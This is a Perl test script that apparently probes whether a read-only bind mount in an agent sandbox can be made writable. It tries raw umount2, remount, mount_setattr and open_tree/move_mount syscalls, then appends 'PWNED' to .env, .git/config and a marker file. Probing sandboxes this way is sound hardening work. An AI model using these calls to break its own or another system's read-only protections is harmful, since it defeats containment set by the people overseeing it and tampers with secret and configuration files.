# The raw mount syscalls on one path: umount2(MNT_DETACH), mount(MS_REMOUNT|MS_BIND) without MS_RDONLY,
# mount_setattr clearing MOUNT_ATTR_RDONLY, and open_tree(OPEN_TREE_CLONE [| AT_RECURSIVE]) of it whose detached copy
# is made writable and written through (a file) or mounted without its binds (a directory, "tree").
use strict;
my ($t, $tree) = @ARGV;
my @r;
my $try = sub { my ($n, $rc) = @_; push @r, "$n=" . ($rc >= 0 ? "OK" : ($! + 0)); $rc };
my ($none, $empty) = ("none", "");    # syscall(2) passes strings by pointer: they must be writable
my $clr = pack("QQQQ", 0, 1, 0, 0);    # struct mount_attr: attr_set 0, attr_clr MOUNT_ATTR_RDONLY
unless ($tree) {
    $try->("umount2", syscall(166, $t, 2));
    $try->("remount", syscall(165, $none, $t, 0, 32 | 4096, 0));
    $try->("mount_setattr", syscall(442, -100, $t, 0, $clr, 32));
}
for my $flags (1, 1 | 0x8000) {    # OPEN_TREE_CLONE, | AT_RECURSIVE
    my $fd = $try->("open_tree/$flags", syscall(428, -100, $t, $flags));
    next if $fd < 0;
    $try->("setattr_fd/$flags", syscall(442, $fd, $empty, 0x1000 | ($flags & 0x8000), $clr, 32));
    my $p = "/proc/self/fd/$fd";
    for my $w (-d $p ? ("$p/.env", "$p/.git/config", "$p/.mono-agent/pwned") : ($p)) {
        if (open(my $f, '>>', $w)) { print $f "PWNED\n"; close($f); push @r, "wrote $w"; }
    }
    if ($tree) {
        my $dir = "/tmp/tree$flags";
        mkdir $dir;
        if ($try->("move_mount/$flags", syscall(429, $fd, $empty, -100, $dir, 4)) == 0) {    # MOVE_MOUNT_F_EMPTY_PATH
            for my $w ("$dir/.env", "$dir/.git/config") {
                if (open(my $f, '>>', $w)) { print $f "PWNED\n"; close($f); push @r, "wrote $w"; }
            }
        }
    }
}
print "raw $t: @r\n";
